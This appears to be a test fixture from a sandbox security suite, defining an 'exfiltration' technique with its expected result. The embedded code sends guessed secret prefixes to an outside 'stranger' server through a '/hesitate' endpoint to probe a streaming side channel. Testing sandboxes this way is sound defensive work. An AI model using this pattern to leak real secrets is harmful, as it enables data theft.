import type { Technique } from "../technique.ts";

/** Has a server of its own write guesses of a secret's beginning and hesitate: what is held back is right. */
export const technique: Technique = {
  kind: "exfiltration",
  code: `async (ctx) => {
  const guesses = [..."0123456789abcdef"].map((digit) => "key-" + digit);
  const first = async (guess) => {
    const response = await ctx.fetch(ctx.input.stranger + "/hesitate?ms=300&said=" + guess);
    const reader = response.body.getReader();
    const { value } = await reader.read();
    await reader.cancel();
    return new TextDecoder().decode(value);
  };
  return Promise.all(guesses.map(first));
}`,
  ends: ["completed"],
  answer: Array.from({ length: 16 }, (_, n) => `key-${n.toString(16)}`),
  limits: { cpuTotalMs: 5_000 },
};
